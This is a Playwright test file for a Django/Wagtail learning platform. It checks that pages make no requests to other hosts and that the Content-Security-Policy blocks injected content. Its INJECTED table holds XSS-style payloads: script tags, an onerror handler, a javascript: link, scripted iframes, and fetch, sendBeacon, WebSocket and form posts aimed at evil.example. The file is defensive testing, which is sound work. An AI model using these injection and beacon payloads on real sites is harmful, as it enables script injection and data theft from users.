"""No page asks another host for anything (G7), and the policy stops what somebody injects (D2)."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.urls import reverse
from playwright.sync_api import Page

from tests import build
from tests.browser.conftest import DESK
from tests.threats import Owned, owned


@pytest.fixture
def world() -> Owned:
    made = owned("Alpha")
    build.home("en")
    remote = {
        "title": "Film",
        "url": "https://video.example/film",
        "provider": "Video (Beispiel)",
        "minutes": 3,
    }
    blocks = [
        {"type": "external_video", "value": remote, "id": "v1"},
        {"type": "download", "value": {"title": "Blatt", "file": made.document.pk}, "id": "d1"},
        {"type": "text", "value": '<p><img src="https://evil.example/x.png">Text</p>', "id": "t1"},
        {
            "type": "picture",
            "value": {"image": {"image": made.image.pk, "decorative": True, "alt_text": ""}, "caption": "x"},
            "id": "p1",
        },
    ]
    made.lesson.body = made.lesson._meta.get_field("body").stream_block.to_python(blocks)
    made.lesson.save()
    build.publish(made.lesson)
    return made


def address(page: Any) -> str:
    return str(page.get_url_parts()[2])


@pytest.fixture
def remote(outside: list[str]) -> Iterator[list[str]]:
    """Requests to other hosts, also failed ones; looked at here, so the general check finds none."""
    yield outside
    outside.clear()


def test_no_page_of_a_learner_asks_another_host(
    world: Owned, open_as: Callable[..., Page], outside: list[str]
) -> None:
    page = open_as(world.participant)
    own = [
        "/de/",
        address(world.page),
        address(world.lesson),
        address(world.quiz),
        "/mein-weg/",
        "/mein-konto/",
    ]
    for one in [*own, "/post/", "/konto/2fa/", "/konto/email/", "/gibt-es-nicht/"]:
        page.goto(one, wait_until="networkidle")
    page.goto(address(world.quiz))
    page.locator("main form button").first.click()
    page.wait_for_url("**/frage/*/")
    assert outside == []


def test_no_page_of_a_stranger_asks_another_host(
    world: Owned, open_as: Callable[..., Page], outside: list[str]
) -> None:
    page = open_as()
    accounts = ("login/", "signup/", "password/reset/", "login/code/")
    for one in ("/", "/en/", address(world.page), *(f"/konto/{part}" for part in accounts)):
        page.goto(one, wait_until="networkidle")
    assert outside == []


def test_no_page_of_the_admin_asks_another_host(
    world: Owned, open_as: Callable[..., Page], outside: list[str]
) -> None:
    admin = build.person("Ad", "Min", is_superuser=True)
    page = open_as(admin, DESK)
    names = ("wagtailadmin_home", "lms_staff:matrix", "wagtailusers_users:index", "wagtailimages:index",
             "wagtailadmin_account", "wagtailadmin_reports:site_history")  # fmt: skip
    editors = [
        reverse("wagtailadmin_pages:edit", args=[one.pk]) for one in (world.lesson, world.quiz, world.page)
    ]
    person = reverse("lms_staff:person", args=[world.enrolment.pk])
    for one in [*(reverse(name) for name in names), person, *editors]:
        page.goto(one, wait_until="networkidle")
    assert outside == []


def test_the_address_of_a_film_elsewhere_waits_for_a_click(
    world: Owned, open_as: Callable[..., Page]
) -> None:
    page = open_as(world.participant)
    page.goto(address(world.lesson), wait_until="networkidle")
    link = page.locator("a[href='https://video.example/film']")
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert "Video (Beispiel)" in link.inner_text()
    assert page.locator("img[src*=evil]").count() == 0


INJECTED = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
    "document.head.append(s)",
    "remote script": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.head.append(s)",
    "module": "const s = document.createElement('script'); s.type = 'module'; s.textContent = 'window.__ran = 1';"
    "document.head.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"window.__ran = 1\">')",
    "script address": "const a = document.createElement('a'); a.href = 'javascript:window.__ran = 1';"
    "document.body.append(a); a.click()",
    "data frame": "document.body.insertAdjacentHTML('beforeend',"
    " '<iframe src=\"data:text/html,<script>parent.__ran = 1</script>\"></iframe>')",
    "document in a frame": "document.body.insertAdjacentHTML('beforeend',"
    " '<iframe srcdoc=\"<script>parent.__ran = 1</script>\"></iframe>')",
    "remote picture": "new Image().src = 'https://evil.example/x.png'",
    "remote style": "document.head.insertAdjacentHTML('beforeend',"
    " '<link rel=stylesheet href=https://evil.example/x.css>')",
    "inline style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">x</p>')",
    "remote fetch": "fetch('https://evil.example/x').catch(() => 0)",
    "beacon": "navigator.sendBeacon('https://evil.example/x', 'x')",
    "socket": "try { new WebSocket('wss://evil.example/x') } catch (e) {}",
    "worker": "try { new Worker('data:text/javascript,1') } catch (e) {}",
    "remote form": "document.body.insertAdjacentHTML('beforeend',"
    " '<form method=post action=https://evil.example/><button id=go>x</button></form>');"
    "document.getElementById('go').click()",
    "base": "document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>')",
    "object": "document.body.insertAdjacentHTML('beforeend', '<object data=/de/></object>')",
}


def stopped(page: Page) -> bool:
    """Did the policy stop something, here or in a frame?"""
    for _turn in range(60):
        if any(frame.evaluate("(window.__stopped || []).length") for frame in page.frames):
            return True
        page.wait_for_timeout(50)
    return False


def test_the_policy_stops_what_is_injected(
    world: Owned, open_as: Callable[..., Page], remote: list[str]
) -> None:
    page = open_as(world.participant)
    page.add_init_script(
        "window.__stopped = []; addEventListener('securitypolicyviolation', e => __stopped.push(e.violatedDirective))"
    )
    shut: list[str] = []  # Chromium names a request before it refuses it
    page.on("requestfailed", lambda one: shut.append(one.url) if "csp" in str(one.failure).lower() else None)
    outcome = {}
    for attack, script in INJECTED.items():
        page.goto("/mein-weg/", wait_until="networkidle")
        page.evaluate(f"() => {{ {script} }}")
        outcome[attack] = (stopped(page), page.evaluate("window.__ran"), set(remote) - set(shut))
    assert {name: found for name, found in outcome.items() if found != (True, None, set())} == {}


def test_eval_is_shut(world: Owned, open_as: Callable[..., Page]) -> None:
    """Asked by a script of the page itself; the test's own evaluate is not bound by the policy."""
    page = open_as(world.participant)
    policy = page.goto("/mein-weg/").headers["content-security-policy"]  # type: ignore[union-attr]  # it answers
    assert "unsafe-eval" not in policy
    assert "script-src 'self';" in f"{policy};"
